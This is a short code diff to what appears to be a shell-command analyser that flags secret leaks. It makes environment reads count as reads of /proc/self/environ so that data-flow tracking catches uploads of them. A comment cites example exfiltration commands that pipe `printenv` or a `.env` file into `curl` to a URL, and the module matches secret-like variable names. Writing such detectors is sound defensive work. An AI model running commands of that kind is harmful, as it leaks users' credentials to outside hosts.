@@ -19,9 +19,15 @@ _SECRET_NAME = re.compile(r"(?i)(secret|token|passw|credential|api_?key|private_
 _DUMPING_FLAGS = frozenset({"-p", "-x", "-px", "-xp"})
 
 
+# Where Linux keeps a process's environment: a dump is read from here as far as what flows on is concerned, so
+# `printenv | curl -d @- URL` is an upload of it like `cat .env | curl ...` is of the file.
+ENVIRONMENT_FILE = "/proc/self/environ"
+
+
 def environment_read(call: Call, target: str = EVERY_VARIABLE) -> None:
     call.reader.add_effect(Effect("secret-read", "", "outside", target=target, program=call.program,
                                   command=call.index))
+    call.reader.reads.setdefault(call.index, []).append(ENVIRONMENT_FILE)
 
 
 def printenv(call: Call) -> None:
